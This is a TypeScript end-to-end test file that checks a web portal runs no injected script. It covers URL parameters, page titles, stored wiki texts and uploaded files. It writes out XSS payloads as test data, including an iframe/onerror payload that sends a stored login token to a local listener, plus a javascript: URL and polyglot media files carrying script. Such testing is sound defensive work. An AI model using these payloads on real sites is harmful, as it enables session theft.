import assert from 'node:assert/strict'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, test } from 'node:test'
import { PREVIEWS } from '../../config/pages'
import { REDIRECTS, routeOf, type RouteKey } from '../../config/routes'
import { auth } from '../../src/features/auth/auth.i18n'
import { eventually, WAIT, wordsIn } from '../screen'
import { HOSTILE, watch } from './hostile'
import { hostileTexts, KEYS, openWatched, PAGES, show, showAll, TABS, type Watched } from './watched'
import { makeWiki } from '../factories'
import type { FullCompany } from './full-company'
import { browse, quarter, type Portal } from './portal'

const login = wordsIn('zh')(auth)
const hostile = encodeURIComponent(HOSTILE)
const queryOf = (names: readonly string[], value: string) => names.map(name => `${name}=${value}`).join('&')

/** A URL of the table, with the hostile text in every parameter that it declares, and in one that it does not. */
const hostileUrls = (key: RouteKey): string[] => {
  const { aliases = [], query = [] } = routeOf(key)
  return [key, ...aliases].map(url => `${url.replace(/:\w+/g, hostile)}?${queryOf([...query, 'probe'], hostile)}`)
}
/** Visitors are sent to the login by all others. */
const OPEN_URLS = KEYS.filter(key => routeOf(key).open).flatMap(hostileUrls)
const HOSTILE_URLS = [
  ...KEYS.flatMap(hostileUrls),
  ...Object.keys(REDIRECTS).map(url => `${url.replace(/:\w+/g, hostile)}?probe=${hostile}`),
  ...Object.keys(PREVIEWS).map(url => `${url}?probe=${hostile}`),
  // where no screen is: encoded, as it is, and as an address that runs
  `/${hostile}`,
  `/no/such/page/${hostile}?from=${hostile}`,
  HOSTILE,
  `/${HOSTILE}`,
  'javascript:ran()',
  '//elsewhere.example/',
  `/mall/index?${HOSTILE}`,
  `/mall/index?${hostile}=${hostile}`,
]

/** The same with each parameter alone: one that makes no sense may keep a screen from looking at the others. */
const ONE_BY_ONE = PAGES.flatMap(key => {
  const { query = [] } = routeOf(key)
  return query.length < 2 ? [] : query.map(name => `${key.replace(/:\w+/g, '42')}?${queryOf([name], hostile)}`)
})

/** Receives what a script would carry away. */
async function listen(): Promise<{ origin: string; got: string[]; stop(): void }> {
  const got: string[] = []
  const server = http.createServer((request, answer) => {
    got.push(request.url ?? '')
    answer.end()
  })
  await new Promise<void>(resolve => {
    server.listen(0, '127.0.0.1', resolve)
  })
  return {
    origin: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`,
    got,
    stop: () => server.close(),
  }
}

describe('no script but ours runs in the page', { concurrency: false }, () => {
  let portal: Portal
  let company: FullCompany
  let site = ''
  let lookAs: Watched['lookAs']
  before(async () => {
    ;({ portal, company, site, lookAs } = await openWatched([true, false]))
  })
  after(() => portal.stop())

  for (const bypassCSP of [true, false]) {
    const way = bypassCSP ? 'by the code alone' : 'under the policy'

    test(`a title is never more than a text: no link and no article carries a login away, ${way}`, async () => {
      const thief = await listen()
      const title = `<iframe srcdoc="<script>top.location='${thief.origin}/?t='+encodeURIComponent(parent.localStorage['lianke.token'])</script>"></iframe><img src=x onerror="location='${thief.origin}/?t='+localStorage['lianke.token']">`
      const article = await makeWiki(portal.db, company.tenant.id, { texts: { zh: title } })
      try {
        const { phone, found } = await lookAs('linkman', bypassCSP)
        for (const url of [
          `/wiki/wikiProductList?catalogId=${encodeURIComponent(title)}`,
          `/wiki/detail/${article.id}`,
        ]) {
          await phone.open(url, `?domainId=${company.tenant.domainId}`)
          await eventually(async () =>
            assert.ok((await phone.page.title()).startsWith(title), await phone.page.title()),
          )
          // Taro took the title of the page that was left over to the next one
          await show(phone.page, '/mall/company/info')
          await phone.at('/mall/company/info')
          assert.ok(await phone.kept('token'))
        }
        assert.deepEqual([thief.got, found], [[], []])
      } finally {
        thief.stop()
      }
    })

    test(`nothing in a link runs, on no screen, ${way}`, async t => {
      const some = quarter(HOSTILE_URLS, url => url)
      const ways: ['linkman' | 'nobody', readonly string[]][] = bypassCSP
        ? [
            ['linkman', [...HOSTILE_URLS, ...quarter(ONE_BY_ONE, url => url)]],
            ['nobody', [...new Set([...OPEN_URLS, ...some])]],
          ]
        : [['linkman', some]]
      for (const [person, urls] of ways) {
        const { phone, found } = await lookAs(person, bypassCSP)
        const shown = await showAll(phone, site, urls, TABS)
        assert.deepEqual(found, [])
        assert.equal(shown.size, new Set(urls).size)
        const drawn = [...shown.values()].filter(text => text.includes('lianke-canary')).length
        t.diagnostic(`${String(shown.size)} URLs, on ${String(drawn)} of them the text was drawn`)
      }
    })

    test(`nothing in the address before the hash runs, ${way}`, async () => {
      const { phone, found } = await lookAs('nobody', bypassCSP)
      await phone.become({ domainId: '' })
      for (const query of [
        `?domainId=${hostile}`,
        `?domainId=${company.tenant.domainId}&from=${hostile}&code=${hostile}&state=${hostile}&token=${hostile}&${hostile}`,
      ]) {
        await phone.page.goto('about:blank')
        await phone.page.goto(`${site}/${query}#/mall/index`)
        await show(phone.page, '/mall/index')
      }
      assert.deepEqual(found, [])
    })

    test(`nothing that waits behind the login runs after it, ${way}`, async () => {
      const { phone, found } = await lookAs('nobody', bypassCSP)
      await phone.open(`/wiki/wikiProductList?catalogId=${hostile}`)
      await phone.at('/login')
      await phone.tap(login('byAccount'))
      await company.enterPassword(phone)
      await phone.at('/wiki/wikiProductList')
      await eventually(async () => assert.ok((await phone.page.title()).startsWith(HOSTILE), await phone.page.title()))
      assert.deepEqual(found, [])
    })
  }

  test("a file opened by itself runs nothing, and a PDF opens in the browser's own viewer", async () => {
    const { as } = company.linkman
    // the viewer for PDF is one of the whole browser
    const { browser, visitor } = await browse({ url: portal.url, stop: async () => undefined }, { whole: true })
    const phone = await visitor({ domainId: company.tenant.domainId })
    const found = await watch(phone.context, portal.url)
    const page = `<html><script>ran()</script><img src=x onerror="ran()">`
    const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj\n${page}\ntrailer<</Root 1 0 R>>\n%%EOF`
    const opened = await portal.ok('POST /ssp/file/upload', {
      ...as,
      file: { name: 'a.pdf', type: 'text/html', bytes: pdf },
    })
    await phone.page.goto(portal.url + opened.url)
    // Chromium's viewer is an extension that draws in a frame of its own
    await eventually(async () =>
      assert.ok(
        phone.page.frames().some(frame => frame.url().startsWith('chrome-extension://')),
        phone.page
          .frames()
          .map(frame => frame.url())
          .join(' '),
      ),
    )
    for (const [name, bytes] of [
      ['a.mp3', Buffer.from(`ID3${page}`)],
      ['a.wav', Buffer.from(`RIFF\x24\0\0\0WAVE${page}`)],
      ['a.mp4', Buffer.from(`\0\0\0\x18ftypisom${page.padEnd(60)}`)],
    ] as const) {
      const kept = await portal.ok('POST /ssp/file/upload', { ...as, file: { name, type: 'image/svg+xml', bytes } })
      await phone.page.goto(portal.url + kept.url)
      assert.equal(
        await phone.page.evaluate(() => [document.images.length, document.scripts.length, self.origin].join()),
        '0,0,null',
        name,
      )
    }
    // the viewer is drawn by markup and scripts of the browser's own
    assert.deepEqual(
      found.filter(one => !/application\/x-google-chrome-pdf|The Chromium Authors/.test(one)),
      [],
    )
    await browser.close()
  })

  test('the description of the calls works under its policy', async () => {
    const phone = await company.visitor()
    const found = await watch(phone.context, portal.url)
    await phone.page.goto(`${portal.url}/docs`)
    // it draws every call at once
    await phone.page
      .locator('.opblock')
      .first()
      .waitFor({ timeout: 3 * WAIT })
    assert.deepEqual(
      found.filter(one => one.includes('policy')),
      [],
    )
    await phone.context.close()
  })

  // last, because the texts stay as they are
  test('nothing that is stored runs, on no screen', async t => {
    const urls = await hostileTexts({ portal, company, site, lookAs }, line => t.diagnostic(line))
    for (const bypassCSP of [true, false]) {
      const { phone, found } = await lookAs('linkman', bypassCSP)
      const shown = await showAll(phone, site, urls, TABS)
      assert.deepEqual(found, [])
      const drawn = [...shown].filter(([, text]) => text.includes('lianke-canary'))
      t.diagnostic(
        `${String(shown.size)} URLs; not drawn on ${[...shown.keys()].filter(url => !drawn.some(one => one[0] === url)).join(' ')}`,
      )
      // the texts did reach the screens
      assert.ok(drawn.length > shown.size / 2, `${String(drawn.length)} of ${String(shown.size)}`)
    }
  })
})
